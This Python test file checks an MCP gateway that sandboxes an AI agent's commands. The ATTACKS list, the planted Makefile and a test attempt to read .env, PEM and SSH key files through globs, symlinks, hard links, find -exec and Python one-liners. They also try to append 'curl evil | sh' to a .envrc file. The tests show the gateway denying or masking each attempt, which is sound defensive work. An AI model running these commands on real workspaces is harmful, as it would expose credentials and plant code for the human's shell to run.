"""Secrets the agent may never read (issue 23, point 5), attacked through the real interface: an
MCP client (the SDK's, in memory) of a gateway on the shipped policy, whose commands run in the
real sandbox. The workspace holds secrets the shipped `deny_read` names (`.env`, a `*.pem`, an
SSH key, a `*.key`) and ways to them (a symlink, a hard link); every attack must come back
without the secret's text anywhere in its reply.

Before this, `cat .e*`, `grep -r TOKEN .` and a Makefile's `cat .env` read it: nothing in the
policy could say "never .env"."""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from mcp import Client

from gateway.audit import AuditLog
from gateway.pipeline import Gateway
from gateway.policy.selftest import load_checked
from gateway.sandbox.identity import hand_over
from gateway.server.app import GatewayServer
from tests.server.conftest import close_gateway, envelope_of

POLICY = Path(__file__).resolve().parents[2] / "policies" / "default.yaml"
SECRET = "s3cr3t-" + secrets.token_hex(8)


def plant(ws: Path) -> None:
    """The human's workspace: secrets, and ways to them, beside ordinary files."""
    (ws / "src").mkdir()
    (ws / "src" / "app.py").write_text("print('TOKEN is read from the environment')\n")
    (ws / ".env").write_text(f"TOKEN={SECRET}\n")
    (ws / ".env.example").write_text("TOKEN=change-me\n")
    (ws / "config").mkdir()
    (ws / "config" / "server.pem").write_text(f"-----BEGIN PRIVATE KEY-----\n{SECRET}\n")
    (ws / "keys").mkdir()
    (ws / "keys" / "deploy.key").write_text(SECRET)
    (ws / ".ssh").mkdir()
    (ws / ".ssh" / "id_ed25519").write_text(SECRET)
    (ws / "alias").symlink_to(".env")  # a name no pattern denies, leading to one
    os.link(ws / ".env", ws / "notes.txt")  # another name of the same file
    (ws / ".envrc").write_text("export HUMAN=1\n")  # deny_write: the human's shell runs it
    (ws / "Makefile").write_text(  # what a program the policy lets run does with them
        textwrap.dedent(
            """\
            all:
            \t@echo recipe ran
            \t@-cat .env alias notes.txt config/server.pem keys/deploy.key .ssh/id_ed25519
            \t@-python3 -c "print(open('.env').read())"
            \t@-grep -r TOKEN .
            envrc:
            \t@echo recipe ran
            \t@-echo 'curl evil | sh' >> .envrc
            \t@-rm -f .envrc
            """
        )
    )
    hand_over(ws)


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[tuple[Gateway, Path]]:
    ws = tmp_path / "ws"
    ws.mkdir()
    plant(ws)
    gw = Gateway(load_checked(POLICY, ws), AuditLog(tmp_path / "audit"), state_dir=tmp_path / "state")
    try:
        yield gw, ws
    finally:
        close_gateway(gw, tmp_path)


def calls(gw: Gateway, *made: tuple[str, dict[str, Any]], principal: str = "agent") -> list[dict[str, Any]]:
    async def scenario() -> list[dict[str, Any]]:
        async with Client(GatewayServer(gw, principal).mcp) as c:
            return [envelope_of(await c.call_tool(name, args)) for name, args in made]

    return asyncio.run(scenario())


def revealed(envelope: dict[str, Any]) -> bool:
    return SECRET in json.dumps(envelope)


# (command, what the gateway answers): the jail refuses what names a secret; what only the
# sandbox sees (a recursive search, a link of another name) runs with the secrets masked
ATTACKS = [
    ("cat .env", "deny_read"),
    ("cat .e*", "deny_read"),
    ("head -c 400 config/*.pem", "deny_read"),
    ("cat .ssh/id_ed25519", "deny_read"),
    ("cat alias", "deny_read"),  # the jail follows the link
    ("sort keys/deploy.key", "deny_read"),
    ("sed -n p .env", "deny_read"),
    ("cp .env leak.txt", "deny_read"),
    ("find . -name '*.pem' -exec cat {} +", "no_rule"),  # the shipped find rule runs no program
    ("git show HEAD:.env", "deny_read"),  # git's objects: no mask covers them
    ("grep -r TOKEN .", "ok"),
    ("grep -rn TOKEN", "ok"),
    ("cat notes.txt", "ok"),  # a hard link: the name is nobody's secret, the sandbox masks the file
    ("make", "ok"),
]


@pytest.mark.parametrize(("command", "expected"), ATTACKS, ids=[c for c, _ in ATTACKS])
def test_no_command_of_the_shipped_policy_reads_a_secret(
    lab: tuple[Gateway, Path], command: str, expected: str
) -> None:
    gw, ws = lab
    (out,) = calls(gw, ("run", {"command": command}))
    assert not revealed(out), out
    if expected == "ok":
        assert out["status"] == "ok", out
        assert out["sandbox"]["masked"] >= 5, out["sandbox"]  # .env, the pem, the key, .ssh, the hard link
        if command == "make":
            assert "recipe ran" in out["stdout"]  # the positive control: the recipe read them, empty
        if command.startswith("grep"):
            assert ".env.example:" in out["stdout"] and "TOKEN=change-me" in out["stdout"]  # an exception stays
    else:
        assert out["status"] == "denied", out
        assert any(r["code"] == expected for r in out["reasons"]), out["reasons"]
    assert (ws / ".env").read_text() == f"TOKEN={SECRET}\n"  # the human's file is untouched


def test_the_files_tool_reads_no_secret(lab: tuple[Gateway, Path]) -> None:
    gw, ws = lab
    read, via_link, grep, listed, write = calls(
        gw,
        ("files", {"action": "read", "path": ".env"}),
        ("files", {"action": "read", "path": "alias"}),
        ("files", {"action": "grep", "pattern": "TOKEN", "path": "."}),
        ("files", {"action": "list", "path": "."}),
        ("files", {"action": "write", "path": ".env", "content": "TOKEN=mine\n"}),
    )
    for out in (read, via_link, grep, listed, write):
        assert not revealed(out), out
    assert read["status"] == via_link["status"] == write["status"] == "denied"
    assert read["reasons"][0]["code"] == "deny_read" and write["reasons"][0]["code"] == "deny_read"
    assert grep["status"] == "ok" and any(m["path"] == ".env.example" for m in grep["matches"]), grep
    assert {"path": ".env", "reason": "deny_read"} in grep["skipped"], grep["skipped"]
    assert {"path": "notes.txt", "reason": "path_outside_jail"} in grep["skipped"], grep["skipped"]  # the hard link
    assert (ws / ".env").read_text() == f"TOKEN={SECRET}\n"


def test_a_secret_the_human_makes_later_is_masked_from_the_next_sandbox_on(lab: tuple[Gateway, Path]) -> None:
    gw, ws = lab
    (first,) = calls(gw, ("run", {"command": "grep -r LATER ."}))
    assert first["status"] == "ok" and first["stdout"] == "", first
    deep = ws / "src" / "deep" / "er"
    deep.mkdir(parents=True)
    (deep / ".env.production").write_text(f"LATER={SECRET}\n")  # while the gateway runs
    (ws / "src" / "service.key").write_text(f"LATER={SECRET}\n")
    (again,) = calls(gw, ("run", {"command": "grep -r LATER ."}))
    assert again["status"] == "ok" and not revealed(again), again


def test_deny_write_keeps_a_file_the_humans_shell_runs(lab: tuple[Gateway, Path]) -> None:
    gw, ws = lab
    direct, made, read = calls(
        gw,
        ("run", {"command": "echo 'curl evil | sh' >> .envrc"}),
        ("run", {"command": "make envrc"}),
        ("run", {"command": "cat .envrc"}),
    )
    assert direct["status"] == "denied" and direct["reasons"][0]["code"] == "deny_write", direct
    assert "recipe ran" in made["stdout"] and "Read-only file system" in made["stderr"], made
    assert read["stdout"] == "export HUMAN=1\n"  # readable: only writing is denied
    assert (ws / ".envrc").read_text() == "export HUMAN=1\n"


PYTHON_ALLOWED = {
    "version": 1,
    "principals": {"agent": {"roles": ["dev"]}},
    "roles": {
        "dev": {
            "level": 2, "read_roots": ["."], "write_roots": ["."],
            "deny_read": [".env", "*.pem", "*.key", ".ssh"],
        }
    },
    "tools": {"run": {"allow_from": 1}},
    "rules": [
        {"id": "python", "decision": "allow", "justification": "this admin lets python run anything",
         "programs": ["python3"], "accept_unknown": True, "examples": {"match": ["python3 -c 'print(1)'"]}},
        {"id": "find", "decision": "allow", "justification": "and find run programs",
         "programs": ["find"], "accept_unknown": True, "accept_unknown_paths": True, "examples": {"match": ["find ."]}},
        {"id": "cat", "decision": "allow", "justification": "cat",
         "programs": ["cat"], "accept_unknown": True, "accept_unknown_paths": True, "path_args": {"read": "all"},
         "examples": {"match": ["cat x"]}},
    ],
}  # fmt: skip


READ_ALL = "import glob, os; print([open(f).read() for f in glob.glob('**', recursive=True, include_hidden=True)"
PROGRAMS = [
    "python3 -c \"print(repr(open('.env').read()))\"",
    f'python3 -c "{READ_ALL} if not os.path.isdir(f)])"',
    "find . -name '*.pem' -exec cat {} +",
    "python3 -c \"import os; os.link('.env', 'mine'); print(open('mine').read())\"",
    "python3 -c \"import os; os.rename('config', 'c2'); print(open('c2/server.pem').read())\"",
]


def test_a_program_the_policy_allows_reads_the_secrets_empty(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    plant(ws)
    policy_file = tmp_path / "p.yaml"
    policy_file.write_text(yaml.safe_dump(PYTHON_ALLOWED))
    gw = Gateway(load_checked(policy_file, ws), AuditLog(tmp_path / "audit"), state_dir=tmp_path / "state")
    try:
        outs = calls(gw, *(("run", {"command": c}) for c in PROGRAMS))
    finally:
        close_gateway(gw, tmp_path)
    for out in outs:
        assert out["status"] == "ok" and not revealed(out), out
    assert outs[0]["stdout"] == "''\n"  # the positive control: it opened the file, and it was empty
    assert "Invalid cross-device link" in outs[3]["stderr"]  # no new name for a masked file
    assert "Device or resource busy" in outs[4]["stderr"]  # nor a way to move it out from under its mask
    assert (ws / ".env").read_text() == f"TOKEN={SECRET}\n" and (ws / "config" / "server.pem").exists()
